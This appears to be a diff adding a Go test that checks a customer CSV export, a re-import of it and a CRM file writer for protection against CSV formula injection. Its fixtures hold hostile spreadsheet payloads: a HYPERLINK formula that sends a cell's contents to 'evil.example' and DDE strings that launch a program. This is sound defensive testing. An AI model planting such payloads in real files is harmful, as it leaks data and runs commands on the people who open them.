@@ -427,3 +427,78 @@ func BenchmarkImport10k(b *testing.B) {
 		})
 	}
 }
+
+// CSV injection (OWASP): text cells that a spreadsheet would evaluate come
+// out with a leading quote, numbers stay numbers, and the export imports
+// back unchanged.
+func TestExportEscapesFormulaCells(t *testing.T) {
+	dbtest.ForEach(t, func(t *testing.T, url string) {
+		t.Parallel()
+		ctx := context.Background()
+		svc := newService(t, url)
+		in := commerce.CustomerInput{Email: "eve@example.com", Name: `=HYPERLINK("http://evil.example/?"&A1,"Click")`,
+			Company: "@SUM(1+9)*cmd|' /C calc'!A0", Address: "-2+3+cmd|' /C calc'!A0", City: "+Springfield", Country: "US"}
+		if _, err := svc.CreateCustomer(ctx, in); err != nil {
+			t.Fatal(err)
+		}
+		var buf bytes.Buffer
+		if err := backoffice.Export(ctx, svc.DB, "customers", &buf); err != nil {
+			t.Fatal(err)
+		}
+		recs, err := csv.NewReader(bytes.NewReader(buf.Bytes())).ReadAll()
+		if err != nil || len(recs) != 2 {
+			t.Fatalf("export: %v, %v", recs, err)
+		}
+		row := map[string]string{}
+		for i, col := range recs[0] {
+			row[col] = recs[1][i]
+		}
+		for col, want := range map[string]string{"email": in.Email, "name": "'" + in.Name, "company": "'" + in.Company,
+			"address": "'" + in.Address, "city": "'" + in.City, "country": "US", "credit_balance": "0"} {
+			if row[col] != want {
+				t.Errorf("%s = %q, want %q", col, row[col], want)
+			}
+		}
+
+		// The export's first ten columns are an import file: it imports
+		// back as it was.
+		var file bytes.Buffer
+		cw := csv.NewWriter(&file)
+		for _, r := range recs {
+			cw.Write(r[:10])
+		}
+		cw.Flush()
+		other := newService(t, dbtest.SQLiteURL(t))
+		rep, err := other.Import(ctx, commerce.ImportCustomers, &file, commerce.ImportOptions{})
+		if err != nil || len(rep.Rejected) != 0 {
+			t.Fatalf("import of the export: %+v, %v", rep, err)
+		}
+		var back bytes.Buffer
+		if err := backoffice.Export(ctx, other.DB, "customers", &back); err != nil {
+			t.Fatal(err)
+		}
+		brecs, err := csv.NewReader(&back).ReadAll()
+		if err != nil || len(brecs) != 2 {
+			t.Fatalf("export after import: %v, %v", brecs, err)
+		}
+		for i, col := range recs[0] {
+			if col == "email" || col == "name" || col == "company" || col == "address" || col == "city" {
+				if brecs[1][i] != recs[1][i] {
+					t.Errorf("%s after a round trip = %q, want %q", col, brecs[1][i], recs[1][i])
+				}
+			}
+		}
+
+		// The CRM file uses the same writer.
+		path := filepath.Join(t.TempDir(), "crm.csv")
+		f := &backoffice.CSVFile{Path: path}
+		if err := f.Record(ctx, &store.Event{ID: "evt_x", Type: "customer.created", Version: "1", SubjectID: "=1+2", Data: []byte(`{}`)}); err != nil {
+			t.Fatal(err)
+		}
+		b, _ := os.ReadFile(path)
+		crm, err := csv.NewReader(bytes.NewReader(b)).ReadAll()
+		if err != nil || len(crm) != 2 || crm[1][5] != "'=1+2" {
+			t.Fatalf("crm file: %q, %v", crm, err)
+		}
+	})
+}
